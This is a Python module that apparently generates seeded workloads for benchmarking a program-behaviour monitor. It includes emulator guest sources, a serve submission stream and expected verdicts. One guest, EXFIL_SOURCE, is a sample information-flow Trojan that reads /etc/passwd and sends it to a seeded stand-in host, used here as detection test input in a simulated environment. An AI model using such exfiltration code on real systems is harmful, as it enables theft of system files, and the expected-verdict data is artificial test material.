"""Seeded inputs for every workload.

Everything the program sees is made here from the ``--seed`` argument:
guest sources, input files, argv, the sweep's variant seeds and the serve
submission stream.  The same seed gives byte-identical inputs; a change
of seed changes the data but never the amount of work, so a run's cost
does not depend on which seed it was given.
"""

from __future__ import annotations

import random
import string
from dataclasses import dataclass, field
from typing import Dict, List, Tuple

#: Cells per input file of the transform guest.
INPUT_CELLS = 512

#: Passes of the long guest over its input (about 1.1 M instructions).
LONG_PASSES = 200

#: Passes of the transform guests submitted to the serve daemon.
SERVE_PASSES = 4

#: Loop iterations of the event-stream guest (about 5000 events).
EVENT_ITERATIONS = 2000

INPUT_PATH = "/home/user/input.dat"
OUTPUT_PATH = "/home/user/output.dat"
LOG_PATH_DIR = "/home/user/"

#: Reads argv[1], transforms every cell ``(c ^ 90) + pass`` (mod 256)
#: for argv[3] passes in place, writes the result to argv[2].  Names and
#: the pass count come from argv (user intent), so a correct monitor
#: calls it benign; every pass count runs the same image.
TRANSFORM_SOURCE = """
main:
    mov ebp, esp
    load eax, [ebp+2]
    load ebx, [eax+3]
    call atoi
    mov ecx, passes
    store [ecx], eax
    load eax, [ebp+2]
    load ebx, [eax+2]
    mov ecx, outname
    store [ecx], ebx
    load ebx, [eax+1]
    mov ecx, 0
    call open
    mov esi, eax
    mov edi, 0
read_loop:
    mov ebx, esi
    mov ecx, buf
    add ecx, edi
    mov edx, 64
    call read
    cmp eax, 0
    jle read_done
    add edi, eax
    cmp edi, CELLS
    jl read_loop
read_done:
    mov ebx, esi
    call close
    mov esi, passes
    load esi, [esi]
    mov ebx, buf
    mov edx, 0
pass_loop:
    cmp edx, esi
    jge write_phase
    mov ecx, 0
cell_loop:
    cmp ecx, edi
    jge cell_done
    mov eax, ebx
    add eax, ecx
    load ebp, [eax]
    xor ebp, 90
    add ebp, edx
    and ebp, 255
    store [eax], ebp
    add ecx, 1
    jmp cell_loop
cell_done:
    add edx, 1
    jmp pass_loop
write_phase:
    mov ecx, outname
    load ebx, [ecx]
    mov ecx, 0x241
    call open
    mov esi, eax
    mov ecx, 0
write_loop:
    cmp ecx, edi
    jge write_done
    mov ebx, esi
    push ecx
    add ecx, buf
    mov edx, 64
    call write
    pop ecx
    add ecx, 64
    jmp write_loop
write_done:
    mov ebx, esi
    call close
    mov eax, 0
    ret
.data
outname: .space 1
passes:  .space 1
buf:     .space CELLS
""".replace("CELLS", str(INPUT_CELLS))

#: Loops argv[5] times: append the argv payload to the argv-named log
#: (open/write/close), every 4th pass also send it to the argv-named
#: host (socket/connect/write/close), every 256th pass fork a child that
#: exits at once.  Thousands of events, little computation between them.
EVENT_SOURCE = """
main:
    mov ebp, esp
    load eax, [ebp+2]
    load ebx, [eax+1]
    mov ecx, logpath
    store [ecx], ebx
    load ebx, [eax+4]
    mov ecx, payload
    store [ecx], ebx
    load ebx, [eax+5]
    call atoi
    mov ecx, iters
    store [ecx], eax
    load eax, [ebp+2]
    load ebx, [eax+3]
    call atoi
    mov ecx, port
    store [ecx], eax
    load eax, [ebp+2]
    load ebx, [eax+2]
    call gethostbyname
    mov edi, eax
    mov esi, 0
iter:
    mov eax, iters
    load eax, [eax]
    cmp esi, eax
    jge done
    mov ecx, logpath
    load ebx, [ecx]
    mov ecx, 0x441
    call open
    mov ebx, eax
    mov ecx, payload
    load ecx, [ecx]
    mov edx, 16
    call write
    call close
    mov eax, esi
    and eax, 3
    cmp eax, 0
    jnz no_net
    call socket
    mov ebx, eax
    mov ecx, edi
    mov edx, port
    load edx, [edx]
    call connect_addr
    mov ecx, payload
    load ecx, [ecx]
    mov edx, 16
    call write
    call close
no_net:
    mov eax, esi
    and eax, 255
    cmp eax, 128
    jnz no_fork
    call fork
    cmp eax, 0
    jnz no_fork
    mov ebx, 0
    call exit
no_fork:
    add esi, 1
    jmp iter
done:
    mov eax, 0
    ret
.data
logpath: .space 1
payload: .space 1
port:    .space 1
iters:   .space 1
"""

#: Reads a hardcoded secret file and sends it to a hardcoded host: the
#: paper's canonical information-flow Trojan.  HOST and PORT are seeded,
#: so every generated copy is a distinct image.
EXFIL_SOURCE = """
main:
    mov ebx, secret
    mov ecx, 0
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, 64
    call read
    mov edi, eax
    mov ebx, esi
    call close
    mov ebx, host
    call gethostbyname
    mov esi, eax
    call socket
    mov ebx, eax
    mov ecx, esi
    mov edx, PORT
    call connect_addr
    mov ecx, buf
    mov edx, edi
    call write
    call close
    mov eax, 0
    ret
.data
secret: .asciz "/etc/passwd"
host:   .asciz "HOST"
buf:    .space 64
"""


def transform_reference(data: bytes, passes: int) -> bytes:
    """What the transform guest must write for ``data``."""
    cells = list(data)
    for p in range(passes):
        cells = [((c ^ 90) + p) & 255 for c in cells]
    return bytes(cells)


def rng_for(workload: str, seed: int) -> random.Random:
    return random.Random(f"perfbench|{workload}|{seed}")


def text_bytes(rng: random.Random, n: int) -> str:
    """``n`` printable ASCII characters (one cell each once loaded)."""
    return "".join(rng.choice(string.ascii_letters) for _ in range(n))


def _name(rng: random.Random, n: int = 8) -> str:
    return "".join(rng.choice(string.ascii_lowercase) for _ in range(n))


# -- long-guest ---------------------------------------------------------------

@dataclass(frozen=True)
class GuestInput:
    """One fixed guest plus the seeded environment it runs in."""

    path: str
    source: str
    argv: Tuple[str, ...]
    files: Dict[str, str] = field(default_factory=dict)
    peers: Dict[str, str] = field(default_factory=dict)


def long_guest(seed: int, passes: int = LONG_PASSES) -> GuestInput:
    rng = rng_for("long-guest", seed)
    return GuestInput(
        path="/bin/transform",
        source=TRANSFORM_SOURCE,
        argv=("/bin/transform", INPUT_PATH, OUTPUT_PATH, str(passes)),
        files={INPUT_PATH: text_bytes(rng, INPUT_CELLS)},
    )


# -- event-stream ---------------------------------------------------------------

def event_stream(seed: int, iterations: int = EVENT_ITERATIONS) -> GuestInput:
    rng = rng_for("event-stream", seed)
    host = f"{_name(rng)}.example.org"
    port = str(rng.randrange(1024, 60000))
    return GuestInput(
        path="/bin/events",
        source=EVENT_SOURCE,
        argv=(
            "/bin/events", LOG_PATH_DIR + _name(rng) + ".log", host, port,
            text_bytes(rng, 16), str(iterations),
        ),
        peers={f"{host}:{port}": ""},
    )


# -- variant-sweep -------------------------------------------------------------

def sweep_seeds(seed: int, rounds: int) -> List[int]:
    """Variant seeds of the first ``rounds`` sweep rounds."""
    rng = rng_for("variant-sweep", seed)
    return [rng.randrange(1, 2 ** 31) for _ in range(rounds)]


# -- serve-mix ------------------------------------------------------------------

#: Share of submissions that repeat an earlier one (verdict-cache hits),
#: and of first-time submissions that are exfiltration guests.  Both are
#: a synthetic choice, not taken from observed traffic: nothing in the
#: repository records what hit share or miss mix a daemon sees.  They
#: were chosen for a steady median: hits take about 1 ms, exfiltration
#: misses about 4 ms and transform misses about 20 ms, so the overall
#: median falls inside the exfiltration band (40% to 76% of the stream),
#: not on the edge between two bands.
HIT_SHARE = 0.4
EXFIL_SHARE = 0.6
#: A repeat copies a submission between REPEAT_MIN and REPEAT_MAX places
#: back: far enough that its first copy has long finished, near enough
#: that the daemon's 512-entry verdict cache still holds it.
REPEAT_MIN = 32
REPEAT_MAX = 256


@dataclass(frozen=True)
class StreamItem:
    """One serve submission and the verdict a correct daemon returns."""

    index: int
    #: Index of the first copy of this submission (== index when new).
    first: int
    kind: str
    wire: Dict[str, object]
    expected_verdict: str
    expected_rules: Tuple[str, ...]


def _new_submission(rng: random.Random, index: int) -> StreamItem:
    if rng.random() >= EXFIL_SHARE:
        data = text_bytes(rng, INPUT_CELLS)
        wire = {
            "source": TRANSFORM_SOURCE,
            "path": "/bin/transform",
            "argv": ["/bin/transform", INPUT_PATH, OUTPUT_PATH,
                     str(SERVE_PASSES)],
            "files": {INPUT_PATH: data},
            "name": f"transform-{index}",
        }
        return StreamItem(index, index, "transform", wire, "benign", ())
    host = f"{_name(rng)}.example.net"
    port = rng.randrange(1024, 60000)
    wire = {
        "source": EXFIL_SOURCE.replace("HOST", host)
        .replace("PORT", str(port)),
        "path": "/bin/exfil",
        "argv": ["/bin/exfil"],
        "files": {"/etc/passwd": text_bytes(rng, 48) + "\n"},
        "peers": {f"{host}:{port}": ""},
        "name": f"exfil-{index}",
    }
    return StreamItem(index, index, "exfil", wire, *EXFIL_EXPECTED)


#: Verdict and rules of the exfiltration guest (fixed by construction).
EXFIL_EXPECTED: Tuple[str, Tuple[str, ...]] = (
    "high", ("check_resource_flow",)
)


class ServeStream:
    """The seeded submission stream, generated lazily and memoized."""

    def __init__(self, seed: int) -> None:
        self._rng = rng_for("serve-mix", seed)
        self.items: List[StreamItem] = []

    def __getitem__(self, index: int) -> StreamItem:
        while len(self.items) <= index:
            self.items.append(self._next(len(self.items)))
        return self.items[index]

    def _next(self, index: int) -> StreamItem:
        rng = self._rng
        if index >= REPEAT_MIN and rng.random() < HIT_SHARE:
            back = rng.randrange(REPEAT_MIN, min(index, REPEAT_MAX) + 1)
            original = self.items[self.items[index - back].first]
            return StreamItem(
                index, original.index, original.kind, original.wire,
                original.expected_verdict, original.expected_rules,
            )
        return _new_submission(rng, index)
